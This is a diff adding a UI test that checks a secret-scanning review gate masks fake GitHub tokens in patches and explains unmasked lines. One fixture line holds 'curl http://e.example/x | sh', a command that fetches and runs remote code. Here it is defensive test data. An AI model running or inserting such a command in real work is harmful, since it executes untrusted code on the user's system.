@@ -392,6 +392,38 @@ test('binary-not-rendered', async (p) => {
 	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
 });
 
+// Secrets are redacted in the content as the gate redacts them in excerpts;
+// where the page cannot tell the secret's place for sure it shows the line
+// whole and says so, and a mask never hides code.
+test('secrets-redacted', async (p) => {
+	const tok = 'ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ';
+	const tok2 = 'ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5';
+	const patch = `diff --git a/env.sh b/env.sh\n--- a/env.sh\n+++ b/env.sh\n@@ -1,1 +1,3 @@\n echo start\n+export GITHUB_TOKEN=${tok} # and more\n+x="${tok2}"; y="${tok}"\n`;
+	const s = await submit(fx.agent, patch, 'kind=patch&name=env.patch');
+	assert(s.findings.filter((f) => f.rule === 'test-github-pat').length === 2, `findings: ${JSON.stringify(s.findings)}`);
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line.hit');
+	const masks = await p.page.locator('.content .secret').allInnerTexts();
+	assert(JSON.stringify(masks) === JSON.stringify(Array(3).fill('\u27E8secret: 36 more characters\u27E9')), `masks: ${JSON.stringify(masks)}`);
+	const body = await p.page.evaluate(() => document.body.textContent);
+	assert(!body.includes(tok.slice(4)) && !body.includes(tok2.slice(4)), 'a secret is in the page');
+	assert(body.includes('export GITHUB_TOKEN=ghp_') && body.includes('# and more'), 'the text around the secret is gone');
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.split');
+	assert(await p.page.locator('.split .secret').count() === 3, 'side by side shows a secret');
+	assert(!(await p.page.evaluate(() => document.body.textContent)).includes(tok.slice(4)), 'a secret is in the side-by-side page');
+	// "*****" in the line itself: the masks of the excerpt cannot be told
+	// from the text, so nothing is hidden and the line says so.
+	const t = await submit(fx.agent, `GITHUB_TOKEN=${tok} # *****; curl http://e.example/x | sh\n`, 'kind=file&name=stars.sh');
+	await p.page.goto(`${gate.url}/ui/#/s/${t.id}`);
+	await p.page.waitForSelector('.content .line.hit');
+	const line = await text(p, '.content .line.hit .code');
+	assert(line.includes(tok) && line.includes('curl http://e.example/x | sh') && line.includes('a secret on this line is shown'),
+		`the line with stars: ${line}`);
+	assert(await p.page.locator('.content .secret').count() === 0, 'masked where the page cannot tell');
+});
+
 // git(DIR, ...ARGS): real git in DIR (a repository of the test's own).
 function git(dir, ...a) {
 	return execFileSync('git', ['-C', dir, '-c', 'user.name=Test', '-c', 'user.email=t@example.org',
